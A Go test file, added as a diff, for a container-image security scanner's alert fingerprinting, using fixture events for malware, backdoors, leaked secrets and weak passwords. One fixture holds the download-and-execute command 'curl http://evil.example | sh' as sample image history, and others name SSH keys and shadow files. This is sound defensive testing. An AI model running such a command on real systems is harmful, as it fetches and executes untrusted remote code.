@@ -0,0 +1,150 @@
+package report
+
+import (
+	"flag"
+	"fmt"
+	"github.com/stretchr/testify/assert"
+	"io/ioutil"
+	"path/filepath"
+	"sort"
+	"strings"
+	"testing"
+	"time"
+)
+
+var update = flag.Bool("update", false, "update golden files")
+
+// fingerprintEvents are representative events of every alert type,
+// their fingerprints of every version are pinned by golden file
+func fingerprintEvents() map[string]ReportEvent {
+	image := "sha256:4c1e2a43a2b6e3a9b4f2b63a1c9d2bd2b8a0c7e9f1f5a6d3c2b1a0f9e8d7c6b5"
+	file := FileDetail{Path: "/usr/bin/kworker", Perm: 0755, Size: 1024, Uid: 0, Uname: "root", Mtim: 1650000000}
+	return map[string]ReportEvent{
+		"vulnerability": {ID: image, Level: High, AlertType: Vulnerability},
+		"malicious": {ID: image, Level: Critical, EventType: Invasion, AlertType: MaliciousFile, AlertDetails: []AlertDetail{{
+			MaliciousFileDetail: &MaliciousFileDetail{FileDetail: file, Engine: "clamav", MaliciousType: "Trojan", MaliciousName: "Unix.Trojan.Mirai-7100807-0"},
+		}}},
+		"backdoor": {ID: image, Level: High, EventType: Invasion, AlertType: Backdoor, AlertDetails: []AlertDetail{{
+			BackdoorDetail: &BackdoorDetail{FileDetail: FileDetail{Path: "/etc/cron.d/job", Mtim: 1650000000}, Description: "cron backdoor"},
+		}}},
+		"sensitive-file": {ID: image, Level: High, AlertType: Sensitive, AlertDetails: []AlertDetail{{
+			SensitiveFileDetail: &SensitveFileDetail{FileDetail: FileDetail{Path: "/root/.ssh/id_rsa"}, RuleID: 12, RuleName: "ssh private key", RuleDescription: "private key of ssh"},
+		}}},
+		"sensitive-env": {ID: image, Level: Medium, AlertType: Sensitive, AlertDetails: []AlertDetail{{
+			SensitiveEnvDetail: &SensitiveEnvDetail{Key: "AWS_SECRET_ACCESS_KEY", Value: "wJalrXUtnFEMI", RuleID: 3, RuleName: "aws secret"},
+		}}},
+		"history": {ID: image, Level: High, AlertType: AbnormalHistory, AlertDetails: []AlertDetail{{
+			HistoryDetail: &HistoryDetail{Instruction: "RUN", Content: "curl http://evil.example | sh", Description: "download and execute"},
+		}}},
+		"weakpass": {ID: image, Level: High, AlertType: Weakpass, AlertDetails: []AlertDetail{{
+			WeakpassDetail: &WeakpassDetail{Username: "root", Password: "123456", Service: SSH},
+		}}},
+		"asset": {ID: image, Level: None, EventType: Info, AlertType: Asset, AlertDetails: []AlertDetail{{
+			AssetDetail: &AssetDetail{OS: AssetOSDetail{Family: "debian", Name: "11.3"}, PackageInfos: []AssetPackageDetails{{FilePath: "var/lib/dpkg/status"}}},
+		}}},
+		"basic": {ID: image, Level: None, EventType: Info, AlertType: Basic, AlertDetails: []AlertDetail{{
+			BasicDetail: &BasicDetail{References: []string{"app:1.0"}, CreatedTime: 1650000000, Env: []string{"PATH=/usr/bin"}},
+		}}},
+		"signature": {ID: image, Level: High, AlertType: Signature, AlertDetails: []AlertDetail{{
+			SignatureDetail: &SignatureDetail{Reference: "registry.example/app:1.0", Digest: image, Scheme: "cosign", Reason: "no signature"},
+		}}},
+		"build": {ID: image, Level: Medium, AlertType: Build, AlertDetails: []AlertDetail{{
+			BuildDetail: &BuildDetail{Index: 7, Instruction: "ADD https://example.com/tool /usr/bin/tool", Rule: "add-remote-url"},
+		}}},
+		"archive": {ID: image, Level: Medium, AlertType: Archive, AlertDetails: []AlertDetail{{
+			ArchiveDetail: &ArchiveDetail{Path: "/opt/data.zip", Member: "nested.zip", Limit: "ratio", Max: 100},
+		}}},
+		"container": {ID: "3f4e5d6c7b8a", Level: High, DetectType: Container, EventType: Invasion, AlertType: Backdoor, AlertDetails: []AlertDetail{{
+			BackdoorDetail: &BackdoorDetail{FileDetail: FileDetail{Path: "/etc/ld.so.preload"}, Description: "preload backdoor"},
+		}}},
+		"multiple-details": {ID: image, Level: High, AlertType: Sensitive, AlertDetails: []AlertDetail{
+			{SensitiveFileDetail: &SensitveFileDetail{FileDetail: FileDetail{Path: "/etc/shadow"}, RuleName: "shadow"}},
+			{SensitiveFileDetail: &SensitveFileDetail{FileDetail: FileDetail{Path: "/etc/gshadow"}, RuleName: "shadow"}},
+		}},
+	}
+}
+
+func TestFingerprintGolden(t *testing.T) {
+	events := fingerprintEvents()
+	names := []string{}
+	for name := range events {
+		names = append(names, name)
+	}
+	sort.Strings(names)
+
+	b := &strings.Builder{}
+	for _, name := range names {
+		for _, version := range FingerprintVersions {
+			fingerprint, err := FingerprintOf(events[name], version)
+			assert.NoError(t, err)
+			fmt.Fprintf(b, "%s v%d %s\n", name, version, fingerprint)
+		}
+	}
+
+	path := filepath.Join("testdata", "fingerprints.golden")
+	if *update {
+		assert.NoError(t, ioutil.WriteFile(path, []byte(b.String()), 0644))
+	}
+	expected, err := ioutil.ReadFile(path)
+	assert.NoError(t, err)
+	assert.Equal(t, string(expected), b.String(), "fingerprints changed, bump FingerprintVersion instead")
+}
+
+func TestFingerprintStable(t *testing.T) {
+	events := fingerprintEvents()
+	assert.Equal(t, Fingerprint(events["malicious"]), mustFingerprint(t, events["malicious"], FingerprintVersion))
+
+	// Volatile fields and forms of paths don't change fingerprint
+	touched := events["malicious"]
+	touched.Time = time.Now()
+	touched.Level = High
+	touched.AlertDetails = []AlertDetail{{MaliciousFileDetail: &MaliciousFileDetail{
+		FileDetail:    FileDetail{Path: "//usr/bin/./kworker", Perm: 0777, Size: 2048, Mtim: 1660000000, SHA256: "aa"},
+		Engine:        "yara",
+		MaliciousType: "Miner",
+		MaliciousName: "Unix.Trojan.Mirai-7100807-0",
+	}}}
+	assert.Equal(t, Fingerprint(events["malicious"]), Fingerprint(touched))
+	assert.NotEqual(t, mustFingerprint(t, events["malicious"], FingerprintV1), mustFingerprint(t, touched, FingerprintV1))
+
+	// Order of details doesn't matter
+	reordered := events["multiple-details"]
+	reordered.AlertDetails = []AlertDetail{reordered.AlertDetails[1], reordered.AlertDetails[0]}
+	assert.Equal(t, Fingerprint(events["multiple-details"]), Fingerprint(reordered))
+
+	// Key fields, image and class do
+	moved := events["backdoor"]
+	moved.AlertDetails = []AlertDetail{{BackdoorDetail: &BackdoorDetail{FileDetail: FileDetail{Path: "/etc/cron.d/other"}, Description: "cron backdoor"}}}
+	assert.NotEqual(t, Fingerprint(events["backdoor"]), Fingerprint(moved))
+	other := events["backdoor"]
+	other.ID = "sha256:bb"
+	assert.NotEqual(t, Fingerprint(events["backdoor"]), Fingerprint(other))
+	container := events["backdoor"]
+	container.DetectType = Container
+	assert.NotEqual(t, Fingerprint(events["backdoor"]), Fingerprint(container))
+	password := events["weakpass"]
+	password.AlertDetails = []AlertDetail{{WeakpassDetail: &WeakpassDetail{Username: "root", Password: "root", Service: SSH}}}
+	assert.Equal(t, Fingerprint(events["weakpass"]), Fingerprint(password))
+
+	_, err := FingerprintOf(events["basic"], 0)
+	assert.Error(t, err)
+}
+
+func TestFingerprintInput(t *testing.T) {
+	in := NewFingerprintInput(fingerprintEvents()["multiple-details"])
+	assert.Equal(t, FingerprintInput{
+		Plugin: "veinmind-sensitive",
+		Class:  "Image/Sensitive",
+		Digest: "sha256:4c1e2a43a2b6e3a9b4f2b63a1c9d2bd2b8a0c7e9f1f5a6d3c2b1a0f9e8d7c6b5",
+		Keys: [][]string{
+			{"path=/etc/gshadow", "rule_name=shadow"},
+			{"path=/etc/shadow", "rule_name=shadow"},
+		},
+	}, in)
+}
+
+func mustFingerprint(t *testing.T, event ReportEvent, version int) string {
+	fingerprint, err := FingerprintOf(event, version)
+	assert.NoError(t, err)
+	return fingerprint
+}